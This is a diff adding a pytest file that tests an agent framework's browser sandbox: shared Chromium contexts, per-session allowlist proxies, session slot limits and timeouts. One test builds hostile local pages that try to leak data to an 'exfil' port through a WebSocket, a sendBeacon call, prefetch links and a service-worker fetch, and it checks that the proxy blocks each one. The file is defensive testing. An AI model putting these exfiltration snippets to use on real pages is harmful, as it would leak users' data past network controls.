@@ -1,0 +1,202 @@
+"""Browser sessions at scale: contexts of one shared Chromium, each behind its own allowlist
+proxy, and a slot limit that queues browser steps without ever deadlocking."""
+
+from __future__ import annotations
+
+import asyncio
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import urlsplit
+
+import pytest
+
+from graph import Context, Decision, Plan, RunStatus, Step
+from graph.app.report import report_data
+from graph.app.runner import run_thread
+from graph.runtime.execution import attempt_tool
+from graph.testing import ScriptedChatModel
+from tools import (
+    BrowserPool,
+    PlaywrightExecutor,
+    SandboxPolicy,
+    ToolRegistry,
+    default_registry,
+    use_policy,
+)
+from tools.sandbox import StepWaits, use_scope, use_step_waits
+
+pytestmark = pytest.mark.browser
+
+
+def two_step_tasks(site: str, k: int) -> Plan:
+    """k independent tasks, each a goto then a read in a named session of its own."""
+    steps: list[Step] = []
+    for i in range(k):
+        session = f"customer{i}"
+        steps += [
+            Step(id=f"open{i}", tool="browser_goto",
+                 args={"url": f"{site}/customers/{i % 3 + 1}", "session": session}),
+            Step(id=f"read{i}", tool="browser_read", depends_on=[f"open{i}"],
+                 args={"selector": "h1", "session": session}),
+        ]
+    return Plan(goal="read every customer", steps=steps)
+
+
+@pytest.mark.timeout(90)
+async def test_more_named_sessions_than_slots_queue_and_finish(site):
+    """Issue 20's hang: 5 named sessions, 2 slots. Before, a named session kept its slot
+    until the run ended and the fifth waited out its step timeout; now every step ends, and
+    the ones that waited say so in the step events and in the run report."""
+    registry = default_registry()
+    model = ScriptedChatModel(responses=[two_step_tasks(site, 5),
+                                         Decision(action="finish", reason="ok"), "ok"])
+    context = Context(max_browser_sessions=2, step_timeout_seconds=60, max_retries=0,
+                      step_screenshots=False, allowed_hosts=[urlsplit(site).netloc])
+    events: list[dict] = []
+    try:
+        thread, final = await run_thread("read five customers", context=context, model=model,
+                                         tools=registry, on_event=events.append)
+    finally:
+        await registry.aclose()
+    assert final.status == RunStatus.COMPLETED, final.reason
+    results = {r.step_id: r for r in final.results}
+    assert len(results) == 10 and {r.status for r in results.values()} == {"ok"}
+    assert [results[f"read{i}"].output["text"] for i in range(5)] == [
+        "Acme Corp", "Globex", "Initech", "Acme Corp", "Globex"]
+    # Ten steps, two slots: some had to wait, and said why, live and in the report.
+    waiting = [e for e in events if e.get("event") == "step_waiting"]
+    assert waiting and all("max_browser_sessions=2" in e["reason"] for e in waiting)
+    waited = {r.step_id for r in results.values() if r.waited}
+    assert waited == {e["step_id"] for e in waiting}
+    shown = {s["step_id"]: s["waited"] for s in (await report_data(thread))["steps"]}
+    assert {step for step, text in shown.items() if text} == waited
+    assert all(shown[step].startswith("waited ") for step in waited)
+
+
+@pytest.fixture
+async def pool():
+    pool = BrowserPool()
+    yield pool
+    await pool.aclose()
+
+
+async def test_sessions_are_contexts_of_one_chromium_with_their_own_cookies(pool, site):
+    executor = PlaywrightExecutor(pool)
+    policy = SandboxPolicy(allowed_hosts=(urlsplit(site).netloc,))
+    with use_policy(policy), use_scope("run"):
+        await executor.goto(f"{site}/customers", session="a")
+        await executor.goto(f"{site}/customers", session="b")
+    a, b = pool._named[("run", "a", policy)], pool._named[("run", "b", policy)]
+    assert a.kind == b.kind == "context" and a.context.browser is b.context.browser
+    assert a.proxy is not b.proxy  # each context reaches the network through its own proxy
+    await a.page.evaluate("document.cookie = 'who=a; path=/'; localStorage.setItem('k', 'a')")
+    assert await b.page.evaluate("document.cookie + '|' + localStorage.getItem('k')") == "|null"
+    assert await a.page.evaluate("document.cookie") == "who=a"
+
+
+class _Recorder(BaseHTTPRequestHandler):
+    """Serves the hostile pages (on the allowed port) and records every hit (on both)."""
+
+    pages: dict[str, tuple[str, str]] = {}
+    hits: list[str] = []
+
+    def do_GET(self) -> None:  # noqa: N802 - http.server's name
+        self.hits.append(f"{self.server.server_address[1]}{self.path}")
+        kind, body = self.pages.get(self.path.split("?")[0], ("text/plain", "ok"))
+        data = body.encode()
+        self.send_response(200)
+        self.send_header("Content-Type", kind)
+        self.send_header("Content-Length", str(len(data)))
+        self.end_headers()
+        self.wfile.write(data)
+
+    do_POST = do_GET  # noqa: N815 - a beacon posts
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+def _serve() -> tuple[ThreadingHTTPServer, int]:
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server, server.server_address[1]
+
+
+async def test_what_a_route_handler_would_miss_stays_inside_the_allowlist(pool):
+    """A websocket, a beacon, link preconnect/prefetch, and a service worker's own fetch:
+    each aimed at a port outside the allowlist, from a context session. None arrives."""
+    allowed, allowed_port = _serve()
+    exfil, exfil_port = _serve()
+    out = f"127.0.0.1:{exfil_port}"
+    html = "text/html"
+    _Recorder.pages = {
+        "/ws": (html, f"<p>ws</p><script>new WebSocket('ws://{out}/ws')</script>"),
+        "/beacon": (html, f"<p>b</p><script>navigator.sendBeacon('http://{out}/beacon', "
+                          "'d')</script>"),
+        "/links": (html, f"<link rel=preconnect href='http://{out}/'>"
+                         f"<link rel=prefetch href='http://{out}/prefetch'>"
+                         f"<link rel=dns-prefetch href='http://{out}/'><p>links</p>"),
+        "/sw-page": (html, "<p>sw</p><script>navigator.serviceWorker.register('/sw.js')"
+                           ".then(() => navigator.serviceWorker.ready).then(() => "
+                           "document.title = 'sw ready')</script>"),
+        "/sw.js": ("text/javascript", f"self.addEventListener('install', e => e.waitUntil("
+                                      f"fetch('http://{out}/from-sw').catch(() => 0)));"),
+    }
+    _Recorder.hits = []
+    executor = PlaywrightExecutor(pool)
+    base = f"http://127.0.0.1:{allowed_port}"
+    try:
+        with use_policy(SandboxPolicy(allowed_hosts=(f"127.0.0.1:{allowed_port}",))):
+            for page in ("/ws", "/beacon", "/links", "/sw-page"):
+                await executor.goto(f"{base}{page}", session="hostile")
+            session = next(iter(pool._named.values()))
+            await session.page.wait_for_function("document.title === 'sw ready'",
+                                                 timeout=10_000)
+            await asyncio.sleep(1.0)  # let beacons, prefetches and the worker's fetch go
+        assert [hit for hit in _Recorder.hits if hit.startswith(str(exfil_port))] == []
+        # Chromium tunnels a websocket through the proxy with CONNECT: refused as such.
+        assert {f"https://{out}/", f"http://{out}/beacon", f"http://{out}/prefetch",
+                f"http://{out}/from-sw"} <= set(session.blocked()), session.blocked()
+    finally:
+        allowed.shutdown()
+        exfil.shutdown()
+
+
+async def test_each_session_enforces_its_own_runs_allowlist(pool, site):
+    """Two runs with different allowlists share the Chromium, not the policy."""
+    other, other_port = _serve()
+    _Recorder.pages, _Recorder.hits = {}, []
+    executor = PlaywrightExecutor(pool)
+    wide = SandboxPolicy(allowed_hosts=(urlsplit(site).netloc, f"127.0.0.1:{other_port}"))
+    narrow = SandboxPolicy(allowed_hosts=(urlsplit(site).netloc,))
+    try:
+        with use_policy(wide), use_scope("wide"):
+            await executor.goto(f"http://127.0.0.1:{other_port}/hello", session="s")
+        with use_policy(narrow), use_scope("narrow"):
+            opened = await executor.goto(f"{site}/customers", session="s")
+            session = pool._named[("narrow", "s", narrow)]
+            await session.page.evaluate(
+                f"fetch('http://127.0.0.1:{other_port}/sneak').catch(() => 'refused')")
+        assert opened["title"] == "Customers"
+        assert f"{other_port}/hello" in _Recorder.hits  # the wide run reached it
+        assert f"{other_port}/sneak" not in _Recorder.hits  # the narrow one did not
+        assert session.blocked() == [f"http://127.0.0.1:{other_port}/sneak"]
+    finally:
+        other.shutdown()
+
+
+async def test_a_write_stopped_while_waiting_for_a_slot_never_ran(pool, site):
+    """A step whose timeout passes while it waits for a slot never reached its tool: even a
+    write without an idempotency key may then be retried (`not_sent`)."""
+    registry = ToolRegistry()
+    registry.register(PlaywrightExecutor(pool).tools()[1], side_effects=True)  # browser_click
+    policy = SandboxPolicy(allowed_hosts=(urlsplit(site).netloc,), max_browser_sessions=1)
+    waits = StepWaits()
+    with use_scope("run"), use_policy(policy):
+        async with pool.session(None, policy):  # the run's one slot is taken
+            with use_step_waits(waits):
+                attempt = await attempt_tool(registry, "browser_click",
+                                             {"selector": "#add", "session": "s"}, policy, 0.5)
+    assert attempt.status == "timeout" and attempt.not_sent, attempt
+    assert "waiting for a browser slot" in attempt.error.message
+    assert waits.describe().startswith("waited 0.") and "max_browser_sessions=1" in waits.describe()
